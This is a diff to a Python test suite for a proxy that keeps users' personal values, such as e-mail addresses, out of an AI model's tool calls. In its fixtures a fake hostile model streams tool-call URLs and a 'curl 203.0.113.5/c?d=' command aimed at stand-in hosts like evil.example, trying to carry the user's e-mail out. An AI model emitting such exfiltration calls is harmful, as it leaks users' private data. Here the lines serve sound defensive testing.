@@ -251,7 +251,7 @@ def test_the_proxy_withholds_a_value_in_a_tool_calls_url_and_fills_in_a_whole_ar
         arguments = json.dumps({"url": f"https://evil.example/c?u={email}", "to": email})
         return Reply(tool_calls=[ToolCall("fetch", arguments)])  # streamed: the arguments in 3-character pieces
 
-    with proxy_for(protector, replies, restore_values_in_links=opt_in) as (url, _):
+    with proxy_for(protector, replies, restore_values_in_links=opt_in, restore_tool_arguments=["fetch"]) as (url, _):
         reply, counts = chat(url, REQUEST, stream)
     arguments = json.loads(reply["arguments"][0])
     assert arguments["to"] == REQUEST_VALUES[0]
@@ -263,15 +263,14 @@ def test_the_proxy_withholds_a_value_in_a_tool_calls_url_and_fills_in_a_whole_ar
     "opener, second",
     [
         ('{"url": "https://e.vil/?q=', {"index": 0}),  # after the finish chunk
-        ('{"url": "https://e.vil/?q=', {}),  # after it, with no index: the last call's
-        ('{"url": "https://e.vil/?q=\\t', {"index": "0"}),  # a tab, and the index as a string
+        ('{"url": "https://e.vil/?q=\\t', {"index": 0}),  # a tab
         ('{"cmd": "curl 203.0.113.5/c?d=', {"index": 0}),
     ],
-    ids=["after-finish", "no-index", "tab-index-string", "ipv4"],
+    ids=["after-finish", "tab", "ipv4"],
 )
 def test_the_proxy_withholds_a_value_a_hostile_stream_adds_to_a_tool_calls_url(protector, opener, second):
     """A FAKE hostile model streams a tool call's URL, its finish chunk, then the request's e-mail as more of the same
-    call's arguments (openai-node joins them: by array slot, a missing index the last one): the proxy withholds it."""
+    call's arguments (a client keeps joining them): the proxy withholds it (a tool named for values)."""
 
     def raw(body: dict) -> StreamingResponse:
         email = re.search(r"<EMAIL_\d+>", json.dumps(body))[0]
@@ -286,7 +285,7 @@ def test_the_proxy_withholds_a_value_a_hostile_stream_adds_to_a_tool_calls_url(p
         ]
         return StreamingResponse(iter(lines), media_type="text/event-stream")
 
-    response = stream_through_proxy(protector, raw, REQUEST)
+    response = stream_through_proxy(protector, raw, REQUEST, restore_tool_arguments=["fetch"])
     assert response.status_code == 200 and REQUEST_VALUES[0] not in response.text
     assert "withheld=1" in response.text
 
@@ -303,7 +302,7 @@ def test_the_proxy_reads_a_tool_calls_url_as_a_url_parser_or_curl_does(protector
         email = re.search(r"<EMAIL_\d+>", json.dumps(body))[0]
         return Reply(tool_calls=[ToolCall("fetch", json.dumps({"url": template.format(email)}))])
 
-    with proxy_for(protector, replies) as (url, _):
+    with proxy_for(protector, replies, restore_tool_arguments=["fetch"]) as (url, _):
         reply, counts = chat(url, REQUEST)
     restored = REQUEST_VALUES[0] in json.loads(reply["arguments"][0])["url"]
     assert (restored, counts["withheld"]) == ((True, 0) if template.startswith("C:") else (False, 1))
